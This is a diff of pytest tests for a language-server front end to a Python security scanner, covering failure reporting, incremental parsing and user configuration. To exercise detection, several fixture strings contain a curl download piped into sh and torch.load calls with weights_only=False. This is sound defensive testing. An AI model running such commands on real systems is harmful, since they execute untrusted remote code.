@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import ast
+import dataclasses
 import os
 from pathlib import Path
 from typing import TYPE_CHECKING
@@ -10,16 +11,22 @@ import pytest
 pytest.importorskip("pygls", reason="needs pip install '.[dev,lsp]'")
 
 import scanner_core.scan
-from lsp_server.analysis import analyse, places, source_text
+from lsp_server import analysing
+from lsp_server.analysis import Analysis, places
+from lsp_server.analyst import asked_of
 from lsp_server.documents import Document
 from lsp_server.programs import Program
 from lsp_server.settings import Settings
+from scanner_core import rules
 from scanner_core.findings import Kind, Verdict
-from scanner_core.source import Kept
 from scanner_core.testing import assemble
 
 if TYPE_CHECKING:
-    from collections.abc import Callable
+    from collections.abc import Callable, Sequence
+
+    from scanner_core.facts import Fact
+    from scanner_core.rules import Rule
+    from scanner_core.source import SourceText
 
 TEXT = "import torch\ntorch.load('x.pt', weights_only=False)\n"
 
@@ -28,25 +35,68 @@ def program(uri: str, version: int, text: str) -> Program:
     return Program.of(Document(uri, version, text))
 
 
+def analyse(program: Program, settings: Settings, roots: Sequence[Path]) -> Analysis:
+    answered = analysing.analyse(asked_of(program), settings, roots)
+    return Analysis(program, answered.report, answered.failure)
+
+
+def source_text(program: Program) -> SourceText:
+    return analysing.source_text(asked_of(program))
+
+
 def notebook(text: str, number: int = 1) -> Program:
     cell = Document("vscode-notebook-cell:/work/nb.ipynb#W0", 1, text)
     return Program("file:///work/nb.ipynb", 1, (cell,), (number,))
 
 
-def test_a_failing_rule_is_one_log_line_and_no_end(
-    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+def test_a_failing_engine_is_one_line_and_no_end(
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     def fail(*_: object) -> None:
         raise KeyError("row")
 
     monkeypatch.setattr(scanner_core.scan, "scan_source", fail)
-    analysis = analyse(program("untitled:1", 1, TEXT), Settings(), ())
+    asked = asked_of(program("untitled:1", 1, TEXT))
+    answered = analysing.analyse(asked, Settings(), ())
 
-    assert analysis.source is None
-    assert analysis.failure == "KeyError: 'row'"
-    [record] = caplog.records
-    assert record.exc_info is None
-    assert "untitled:1" in record.message
+    assert answered.report is None
+    assert answered.failure == "KeyError: 'row'"
+    assert answered.failures == ("no analysis of 'untitled:1': KeyError: 'row'",)
+
+
+def test_a_failing_rule_is_one_line_and_the_others_go_on(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    text = f"{TEXT}import os\nos.system('curl -s https://example.org/i | sh')\n"
+    asked = asked_of(program("untitled:1", 1, text))
+    before = analysing.analyse(asked, Settings(), ())
+
+    def fail(*_: object) -> None:
+        raise KeyError("row")
+
+    def listening(fact: Fact) -> list[Rule]:
+        return [
+            dataclasses.replace(rule, judge=fail)
+            if rule.id == "unrestricted-torch-load"
+            else rule
+            for rule in original(fact)
+        ]
+
+    original = rules.listening
+    analysing.forget("untitled:1")
+    monkeypatch.setattr(rules, "listening", listening)
+    answered = analysing.analyse(asked, Settings(), ())
+    assert answered.report
+    assert before.report
+    assert before.failures == ()
+    assert answered.failures == (
+        "<untitled:1>:2:1: internal error in unrestricted-torch-load: KeyError: 'row'",
+    )
+    assert [f.rule for f in before.report.artifacts[0].findings] == [
+        "unrestricted-torch-load",
+        "piped-download",
+    ]
+    assert [f.rule for f in answered.report.artifacts[0].findings] == ["piped-download"]
 
 
 def test_a_finding_leads_to_what_its_call_loads(
@@ -81,9 +131,11 @@ def test_what_is_not_on_disk_is_looked_for_in_the_workspace_only(
 def test_only_the_edited_part_of_a_document_is_parsed_again(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    kept, parsed = Kept(), list[str]()
+    parsed = list[str]()
+    analysing.forget("untitled:1")
     lines = [*TEXT.split("\n"), "if x:", "    pass", *("y = 1" for _ in range(9))]
-    analyse(program("untitled:1", 1, "\n".join(lines)), Settings(), (), kept)
+    for version in (1, 2):  # What is only opened is not worth the memory.
+        analyse(program("untitled:1", version, "\n".join(lines)), Settings(), ())
     original = ast.parse
 
     def note(text: str) -> ast.Module:
@@ -92,10 +144,10 @@ def test_only_the_edited_part_of_a_document_is_parsed_again(
 
     monkeypatch.setattr(ast, "parse", note)
     lines[4:5] = ["    torch.load('y.pt', weights_only=False)", "    pass"]
-    document = program("untitled:1", 2, "\n".join(lines))
-    analysis = analyse(document, Settings(), (), kept)
+    analysis = analyse(program("untitled:1", 3, "\n".join(lines)), Settings(), ())
+    monkeypatch.undo()
 
-    assert parsed == ["\n".join(lines[3:6])]
+    assert set(parsed) == {"\n".join(lines[3:6])}
     assert analysis.source is not None
     assert [each.location.line for each in analysis.source.findings] == [2, 5]
 
@@ -136,22 +188,23 @@ def test_the_user_knows_classes_here_as_everywhere(
     monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
     (tmp_path / "x.pkl").write_bytes(assemble(MINE))
     text = "import pickle\npickle.load(open('x.pkl', 'rb'))\n"
-    document = program((tmp_path / "train.py").as_uri(), 1, text)
-    before = analyse(document, Settings(), ())
+    asked = asked_of(program((tmp_path / "train.py").as_uri(), 1, text))
+    before = analysing.analyse(asked, Settings(), ())
     (tmp_path / "config" / "gifthorse").mkdir(parents=True)
     config = tmp_path / "config" / "gifthorse" / "config.toml"
 
     config.write_text("known-classes = ['mine.*']\n")
-    after = analyse(document, Settings(), ())
+    after = analysing.analyse(asked, Settings(), ())
     config.write_text("known-clases = []\n")
-    wrong = analyse(document, Settings(), ())
+    wrong = analysing.analyse(asked, Settings(), ())
 
-    assert before.source
-    assert after.source
-    assert before.source.verdict is Verdict.REVIEW
-    assert after.source.verdict is Verdict.CLEAN
-    assert wrong.report is None
-    assert wrong.failure.startswith(f"{config}:1: there is no known-clases to set")
+    assert before.report
+    assert after.report
+    assert wrong.report
+    assert before.report.verdict is Verdict.REVIEW
+    assert after.report.verdict is Verdict.CLEAN
+    assert wrong.report.artifacts == before.report.artifacts
+    assert wrong.complaint.startswith(f"{config}:1: there is no known-clases to set")
 
 
 def test_a_workspace_that_is_open_is_not_trusted_for_that(
